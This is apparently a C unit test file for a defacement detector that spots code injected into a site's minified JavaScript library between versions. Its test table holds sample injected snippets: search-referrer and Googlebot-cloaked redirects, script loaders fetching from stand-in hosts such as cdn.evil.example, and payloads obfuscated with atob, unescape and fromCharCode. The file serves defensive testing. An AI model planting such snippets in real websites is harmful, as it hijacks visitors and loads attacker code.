/* Scripts of a site from one version to the next: what was put into a library is found and named,
 * what a new version of the library brings is not, and setting it anew changes nothing. */
#include "harness.h"

#include "base/arena.h"
#include "base/buf.h"
#include "base/cleanup.h"
#include "base/prng.h"
#include "detect/deface/script.h"

#include <string.h>

#define KEY        0x5eed
#define FUNCTIONS  300
#define CALL(name) (1U << SCRIPT_CALL_##name)

static struct arena *arena;

/* A minified library: one line of functions over names of a few letters. insert: put behind so many
 * of them, NULL: nothing. blank: stands wherever white space may. */
static struct str library(uint64_t version, const char *insert, const char *blank)
{
    static struct buf bufs[2];
    static unsigned turn;
    struct buf *buf = &bufs[turn++ % 2];
    struct prng prng;

    prng_init(&prng, version);
    buf_done(buf);
    buf_init(buf, 1 << 20);
    (void)buf_putf(buf, "!function(e,t){%s\"use strict\";%s", blank, blank);
    for (unsigned i = 0; i < FUNCTIONS; i++) {
        (void)buf_putf(
            buf, "t.f%u=function(%c,%c)%s{return %c.x%u>%u?%s%c[\"k%u\"](%c%s):/a%u/}%s;",
            (unsigned)prng_below(&prng, 900), (int)('a' + prng_below(&prng, 20)), 'y', blank,
            (int)('a' + prng_below(&prng, 20)), (unsigned)prng_below(&prng, 50),
            (unsigned)prng_below(&prng, 900), blank, 'y', (unsigned)prng_below(&prng, 300), 'e',
            blank, (unsigned)prng_below(&prng, 90), blank);
        if (insert != NULL && i == FUNCTIONS / 2) {
            (void)buf_put_text(buf, insert);
        }
    }
    (void)buf_put_text(buf, "t.docs=\"https://docs.thu-vien.example/1\"}(window,document);");
    return buf_str(buf);
}

static struct script_sketch sketch_of(struct str text, const struct script_sketch *old)
{
    struct script_sketch sketch;

    assert_int_equal(script_sketch_make(text, KEY, old, arena, &sketch), 0);
    return sketch;
}

static struct script_diff diff_of(struct str before, struct str after)
{
    struct script_sketch old = sketch_of(before, NULL);
    struct script_sketch fresh = sketch_of(after, &old);
    struct script_diff diff;

    assert_int_equal(script_diff_make(&old, &fresh, arena, &diff), 0);
    return diff;
}

static int group_open(void **state)
{
    (void)state;
    return arena_new(64U << 20, &arena);
}

static int group_close(void **state)
{
    (void)state;
    arena_free(arena);
    return 0;
}

static void test_set_anew(void **state)
{
    static const char *const blanks[] = {" ", "\n", "\t/* chú thích: \"' */", " // `\r\n",
                                         "\n\n  "};
    struct script_sketch plain = sketch_of(library(1, NULL, ""), NULL);

    (void)state;
    assert_true(plain.tokens > 5000 && plain.run_count > 100);
    for (size_t i = 0; i < ARRAY_LEN(blanks); i++) {
        struct script_sketch set = sketch_of(library(1, NULL, blanks[i]), &plain);

        assert_true(set.version == plain.version);
        assert_int_equal(set.tokens, plain.tokens);
    }
    assert_true(sketch_of(library(2, NULL, ""), NULL).version != plain.version);
}

static const struct {
    const char *code;
    uint32_t calls;
    const char *host; /* NULL: none */
} injected[] = {
    {"if(/google|bing/i.test(document.referrer))window.location.href=\"https://nhacai.example/"
     "?r\";",
     CALL(ASKS) | CALL(SENDS), "nhacai.example"},
    {"if(navigator.userAgent.indexOf('Googlebot')>-1){document.write('<script "
     "src=\"//x.evil.example/j.js\"><\\/script>')}",
     CALL(ASKS) | CALL(LOADS), "x.evil.example"},
    {"var "
     "s=document.createElement('script');s.src='ht'+'tps:'+'//cdn.evil'+'.example/"
     "a.js';document.head.appendChild(s);",
     CALL(LOADS), "cdn.evil.example"},
    {"location.replace(`https:\\/\\/evil.example/`);", CALL(SENDS), "evil.example"},
    {"top.location='\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x65\\x76\\x69\\x6c.example/';",
     CALL(SENDS), "evil.example"},
    {"eval(atob("
     "\"dmFyIHM9ZG9jdW1lbnQuY3JlYXRlRWxlbWVudCgnc2NyaXB0Jyk7cy5zcmM9Jy8vZXZpbC5leGFtcGxlL2EuanMnOw"
     "==\"));",
     CALL(RUNS), NULL},
    {"window[\"ev\\u0061l\"](unescape(\"%64%6f%63%75%6d%65%6e%74%20%2e%20%77%72%69%74%65%28%27%3c%"
     "73%63%72%69%70"
     "%74%27%3e%29\"));",
     CALL(RUNS), NULL},
    {"new Function(\"var "
     "a=document.createElement(String(1));a.src=b;document.documentElement.appendChild(a);\")();",
     CALL(RUNS), NULL},
    {"var p=String.fromCharCode(104,116,116,112,115,58,47,47,101,118,105,108,46,118,110);",
     CALL(SPELLS), NULL},
    {"[104,116,116,112,115,58,47,47,101,118,105,108,46,118,110].map(function(c){return "
     "String[\"fromCharCode\"](c)});",
     CALL(SPELLS), NULL},
};

static void test_injected(void **state)
{
    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(injected); i++) {
        struct script_diff diff = diff_of(library(1, NULL, ""), library(1, injected[i].code, ""));

        if (!diff.is_addition || diff.calls != injected[i].calls || diff.added > 250 ||
            diff.gone > 100 || diff.host_count != (injected[i].host != NULL)) {
            fail_msg("%s: calls %x, +%u -%u, %zu hosts", injected[i].code, diff.calls, diff.added,
                     diff.gone, diff.host_count);
        }
        if (injected[i].host != NULL) {
            assert_str(diff.hosts[0], injected[i].host);
        }
    }
}

/* What editors and vendors put in has none of it. */
static void test_honest_additions(void **state)
{
    static const char *const honest[] = {
        "t.fix=function(e){return e&&e.nodeType===1?e.style.display=\"none\":null};",
        "if(e.location.hash)t.go(e.location.pathname);",
        "var n=String.fromCharCode(e+65536),o=e>>10|55296;",
        "t.typeOf=function(e){return typeof e===\"function\"||e instanceof Function};",
        "t.a=\"/tin-tuc//moi\";t.b=\"a // b\";t.c=/https?:\\/\\//;",
        "t.isMobile=/Android|iPhone/i.test(navigator.userAgent);",
        "t.docs2=\"https://docs.thu-vien.example/2\";",
        "t.sizes=[1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16];",
    };

    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(honest); i++) {
        struct script_diff diff = diff_of(library(1, NULL, ""), library(1, honest[i], ""));

        if (!diff.is_addition || diff.calls != 0 || diff.host_count != 0 || diff.added == 0) {
            fail_msg("%s: calls %x, +%u -%u, %zu hosts", honest[i], diff.calls, diff.added,
                     diff.gone, diff.host_count);
        }
    }
}

/* A call that stood beside the place that changed is not a new one. */
static void test_old_calls_beside_the_change(void **state)
{
    struct script_diff diff =
        diff_of(library(1, "location.href=\"https://docs.thu-vien.example/\";var v=1;", ""),
                library(1, "location.href=\"https://docs.thu-vien.example/\";var v=2;", ""));

    (void)state;
    assert_true(diff.is_addition && diff.added != 0);
    assert_int_equal(diff.calls, 0);
    assert_int_equal(diff.host_count, 0);
}

static void test_new_version(void **state)
{
    struct script_diff diff = diff_of(library(1, NULL, ""), library(2, NULL, ""));

    (void)state;
    assert_false(diff.is_addition);
    assert_true(diff.gone > 3000 && diff.added > 3000);
    assert_int_equal(diff.calls, 0);
    assert_int_equal(diff.host_count, 0);
}

/* A name of a host is not hidden by what stands before it in the same string. */
static void test_hosts_in_long_strings(void **state)
{
    struct buf code;

    (void)state;
    for (unsigned before = 0; before < 1200; before += 7) {
        struct script_diff diff;

        buf_init(&code, 4096);
        (void)buf_put_text(&code, "t.h='<p>");
        for (unsigned i = 0; i < before; i++) {
            (void)buf_put_byte(&code, 'x');
        }
        (void)buf_put_text(&code, "</p><img src=\"https://a.evil.example/\">';");
        diff = diff_of(library(1, NULL, ""), library(1, code.ptr, ""));
        buf_done(&code);
        if (diff.host_count != 1) {
            fail_msg("%zu hosts behind %u bytes", diff.host_count, before);
        }
        assert_str(diff.hosts[0], "a.evil.example");
    }
}

static void test_any_place_and_script(void **state)
{
    static const char *const scripts[] = {"", ";", "a", "var a=1;", "/* x */", "\"open"};
    static const char redirect[] = "location.href='https://evil.example/';";

    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(scripts); i++) {
        struct buf buf;
        struct script_diff diff;

        buf_init(&buf, 256);
        (void)buf_putf(&buf, "%s\n%s", scripts[i], redirect);
        diff = diff_of(str_from(scripts[i]), buf_str(&buf));
        buf_done(&buf);
        assert_int_equal(diff.calls, CALL(SENDS));
        assert_int_equal(diff.first_calls, CALL(SENDS));
        assert_int_equal(diff.host_count, 1);
    }
}

/* One so big that its runs fill up still tells what is at its end. */
static void test_huge_scripts(void **state)
{
    static char big[1 << 20];
    struct str tail = STR(";location.href='https://evil.example/';");
    struct script_diff diff;

    (void)state;
    for (size_t i = 0; i < sizeof(big); i++) {
        big[i] = "a=b;\n"[i % 5];
    }
    diff = diff_of(library(1, NULL, ""), str_of(big, sizeof(big)));
    assert_false(diff.is_addition);
    memcpy(big + sizeof(big) - tail.len, tail.ptr, tail.len);
    diff = diff_of(library(1, NULL, ""), str_of(big, sizeof(big)));
    assert_int_equal(diff.calls, CALL(SENDS));
    assert_int_equal(diff.host_count, 1);
}

static void test_kept_and_read_again(void **state)
{
    struct script_sketch sketch = sketch_of(library(1, injected[0].code, ""), NULL);
    struct script_sketch again;
    struct script_diff diff;
    struct cbor_reader reader;
    struct buf buf;

    (void)state;
    buf_init(&buf, 16384);
    script_sketch_encode(&sketch, &buf);
    assert_int_equal(buf_error(&buf), 0);
    assert_in_range(buf.len, 1000, 6000);
    cbor_open(&reader, buf_str(&buf));
    assert_int_equal(script_sketch_decode(&reader, arena, &again), 0);
    assert_int_equal(cbor_close(&reader), 0);
    assert_int_equal(script_diff_make(&sketch, &again, arena, &diff), 0);
    assert_true(again.version == sketch.version && diff.added == 0 && diff.gone == 0);
    for (size_t cut = 0; cut < buf.len; cut++) {
        cbor_open(&reader, str_slice(buf_str(&buf), 0, cut));
        assert_true(script_sketch_decode(&reader, arena, &again) < 0);
    }
    buf_done(&buf);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_set_anew),
        cmocka_unit_test(test_injected),
        cmocka_unit_test(test_honest_additions),
        cmocka_unit_test(test_old_calls_beside_the_change),
        cmocka_unit_test(test_new_version),
        cmocka_unit_test(test_hosts_in_long_strings),
        cmocka_unit_test(test_any_place_and_script),
        cmocka_unit_test(test_huge_scripts),
        cmocka_unit_test(test_kept_and_read_again),
    };

    return cmocka_run_group_tests(tests, group_open, group_close);
}
